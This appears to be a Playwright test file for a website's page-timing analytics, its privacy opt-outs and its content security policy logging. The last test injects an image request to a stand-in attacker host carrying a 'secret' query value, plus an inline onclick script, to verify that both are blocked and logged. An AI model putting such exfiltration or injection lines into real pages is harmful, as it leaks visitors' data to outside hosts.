import type { Page } from 'playwright/test'
import { hydrated, expect, loudTest, test } from '../support/browser-test.ts'
import { getFreePort } from '../support/loopback.ts'
import { startSiteProcess, type SiteProcess } from '../support/site-process.ts'

let site: SiteProcess

test.beforeAll(async () => {
  site = await startSiteProcess({ OPS_PORT: String(await getFreePort()), ANALYTICS: 'log' })
})
// The sample is chosen at random.
test.beforeEach(({ page }) => page.addInitScript(() => void (Math.random = () => 0)))
test.afterAll(() => site.stop())

/** What a page requests to measure its load: the script, then the report. */
function watchTimings(page: Page) {
  const requests: { path: string; body: string | null }[] = []
  page.on('request', (request) => {
    const path = new URL(request.url()).pathname
    if (path.includes('page-timing')) requests.push({ path, body: request.postData() })
  })
  return requests
}

/** Waits until the script that measures, if there is one, has been requested: it waits for an idle moment. */
async function idle(page: Page) {
  await hydrated(page)
  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
}

/** Opens a page, and clicks once it is measured. */
async function openAndClick(page: Page, path: string) {
  const script = page.waitForResponse(/\/page-timings-[\w-]+\.js$/)
  await page.goto(site.url + path)
  await (await script).finished()
  await idle(page)
  await page.locator('main h1').click()
  // The browser measures a click once the frame after it is on the screen; the script reads that in an idle moment.
  await page.evaluate(
    () =>
      new Promise((resolve) => {
        new PerformanceObserver(resolve).observe({ type: 'first-input', buffered: true })
      }),
  )
  await idle(page)
}

/** The numbers of page loads, by Web Vital. */
async function countsOf(page: string, language: string) {
  const text = await (await fetch(`${site.adminUrl}/metrics`)).text()
  const count = new RegExp(
    `^web_vitals_(\\w+)_count\\{page="${page}",language="${language}"\\} (\\d+)$`,
    'gm',
  )
  return Object.fromEntries([...text.matchAll(count)].map(([, name, value]) => [name, value]))
}

for (const [lang, path] of [
  ['Ar', '/products/mcb'],
  ['En', '/products/mcb?lang=En'],
] as const) {
  test(
    `${lang}: leaving a page reports all four of its timings`,
    { tag: lang === 'En' ? '@long' : [] },
    async ({ page }) => {
      await openAndClick(page, path)
      await page.goto('about:blank')
      const all = { lcp_seconds: '1', inp_seconds: '1', ttfb_seconds: '1', cls: '1' }
      await expect.poll(() => countsOf('product-list', lang)).toEqual(all)
    },
  )
}

test(
  'a page reports once, as the kind of page it was when it was loaded, and nothing of the visitor',
  { tag: '@long' },
  async ({ page }) => {
    const requests = watchTimings(page)
    await openAndClick(page, '/services?lang=En')
    await page.locator('main .card a').first().click()
    await page.waitForURL('**/serviceDetails/**')
    for (const state of ['hidden', 'visible', 'hidden']) {
      await page.evaluate((now) => {
        Object.defineProperty(document, 'visibilityState', { value: now, configurable: true })
        document.dispatchEvent(new Event('visibilitychange', { bubbles: true }))
      }, state)
    }
    const reports = requests.filter(({ path }) => path === '/page-timing')
    expect(reports).toHaveLength(1)
    expect(JSON.parse(reports[0]?.body ?? '')).toEqual({
      page: 'list',
      lang: 'En',
      lcp: expect.any(Number),
      inp: expect.any(Number),
      cls: expect.any(Number),
      ttfb: expect.any(Number),
    })
  },
)

test(
  'a visitor with Global Privacy Control, Do Not Track or no cookies is not measured, nor one that the sample does not choose',
  { tag: '@long' },
  async ({ context }) => {
    for (const [property, value] of [
      ['globalPrivacyControl', true],
      ['doNotTrack', '1'],
      ['cookieEnabled', false],
      ['random', 1 - Number.EPSILON],
    ] as const) {
      const page = await context.newPage()
      await page.addInitScript(
        ([name, now]) => {
          // Others would be measured.
          Math.random = () => (name === 'random' ? Number(now) : 0)
          if (name !== 'random')
            Object.defineProperty(Navigator.prototype, name, { get: () => now, configurable: true })
        },
        [property, value] as const,
      )
      const requests = watchTimings(page)
      await page.goto(`${site.url}/about`)
      // Without cookies nothing of the page's script runs.
      if (property !== 'cookieEnabled') await idle(page)
      await page.goto('about:blank')
      expect(requests, property).toEqual([])
      await page.close()
    }
  },
)

// Violations are errors in the console.
loudTest(
  'V19: content security policy violations are logged for the operator',
  async ({ page }) => {
    await page.goto(`${site.url}/News?lang=En`)
    await page.evaluate(() => {
      const image = new Image()
      image.src = 'https://evil.example/x.png?name=secret'
      const text = document.createElement('p')
      text.setAttribute('onclick', 'window.__pwned = 1')
      document.body.append(image, text)
      text.click()
    })
    await expect.poll(() => site.output()).toContain('"blocked":"https://evil.example/x.png"')
    await expect
      .poll(() => site.output())
      .toMatch(/"directive":"script-src-attr","page":"[^"]*\/News"/)
    expect(site.output()).not.toContain('secret')
    expect(await page.evaluate(() => Reflect.has(window, '__pwned'))).toBe(false)
  },
)
